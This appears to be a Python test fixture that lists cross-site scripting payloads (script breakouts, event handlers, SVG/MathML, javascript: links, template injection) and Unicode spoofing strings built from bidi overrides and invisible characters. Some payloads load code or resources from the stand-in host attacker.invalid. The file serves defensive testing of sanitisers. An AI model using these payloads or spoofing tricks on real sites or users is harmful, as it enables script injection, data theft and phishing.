"""Texts that would run something, or deceive a reader, wherever they are taken for more than text.

Each that runs calls ``hit()``, which :func:`browser.watched_page` counts, or asks ``attacker.invalid`` for something,
which it counts too.
"""

_RUN = "hit()"
_DATA = "data:text/html,<script>parent.hit()</script>"
_ASK = "http://attacker.invalid/x"

RUNNING = (
    # scripts
    f"<script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"</title><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>",
    f"</style><script>{_RUN}</script>",
    f"--><script>{_RUN}</script><!--",
    f"<!--<script>{_RUN}</script>-->",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<SCRIPT SRC={_ASK}.js></SCRIPT>",
    f'"><script>{_RUN}</script>',
    f"'><script>{_RUN}</script>",
    f"]]><script>{_RUN}</script>",
    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    # handlers
    f"<img src=x onerror={_RUN}>",
    f'<img src="x" onerror="{_RUN}" alt=\'',
    f"<IMG SRC=x ONERROR={_RUN}//",
    f"<img/src/onerror={_RUN}>",
    f"<body onload={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<details open ontoggle={_RUN}><summary>more</summary></details>",
    f"<video><source onerror={_RUN}></video>",
    f"<audio src=x onerror={_RUN}>",
    f"<div style=animation:a onanimationstart={_RUN}></div><style>@keyframes a{{}}</style>",
    f"<b onmouseover={_RUN}>over</b>",
    f'" onmouseover={_RUN} x="',
    f"' autofocus onfocus={_RUN} x='",
    f"<select autofocus onfocus={_RUN}></select>",
    # style, links, frames, plug-ins
    f"<style>@import '{_ASK}.css';</style>",
    f"<style>*{{background:url({_ASK})}}</style>",
    f"<link rel=stylesheet href={_ASK}.css>",
    f"<base href={_ASK}/>",
    f"<meta http-equiv=refresh content='0;url={_ASK}'>",
    f"<iframe src='javascript:parent.{_RUN}'></iframe>",
    f'<iframe srcdoc="<script>parent.{_RUN}</script>"></iframe>',
    f"<iframe src='{_DATA}'></iframe>",
    f"<object data='{_DATA}'></object>",
    f"<embed src='{_DATA}'>",
    f"<form action='javascript:{_RUN}'><button autofocus>go</button></form>",
    f"<img src={_ASK}.png>",
    # SVG and MathML
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s></svg>",
    f"<svg><a xlink:href='javascript:{_RUN}'><text>x</text></a></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}></style></mglyph></table></mtext></math>",
    f"<svg><foreignObject><iframe srcdoc='<script>parent.{_RUN}</script>'></iframe></foreignObject></svg>",
    # addresses, Markdown, LaTeX, templates
    f"javascript:{_RUN}",
    f"[a link](javascript:{_RUN})",
    f'![a picture](x" onerror="{_RUN})',
    f"<a href='javascript:{_RUN}' autofocus>a</a>",
    f"$\\href{{javascript:{_RUN}}}{{x}}$ \\( \\unicode{{<img src=x onerror={_RUN}>}} \\)",
    f"$$\\require{{html}}\\style{{background:url({_ASK})}}{{x}}$$",
    f"{{{{constructor.constructor('{_RUN}')()}}}} ${{{_RUN}}} <%= {_RUN} %>",
)

# Each holds a character that hides or reorders others, and must be shown with its number.
DECEIVING = {
    "right-to-left override": "pay \u202emoney\u202c back",
    "left-to-right override": "pay \u202dmoney\u202c back",
    "embedding": "pay \u202bmoney\u202c back",
    "isolate": "pay \u2067money\u2069 back",
    "zero-width space": "pay\u200bpal",
    "word joiner": "pay\u2060pal",
    "byte order mark": "pay\ufeffpal",
    "soft hyphen": "pay\u00adpal",
    "joiner in a Latin word": "pay\u200dpal",
    "tag characters": "pay\U000e0041\U000e0042pal",
}
ALL = (*RUNNING, *DECEIVING.values())
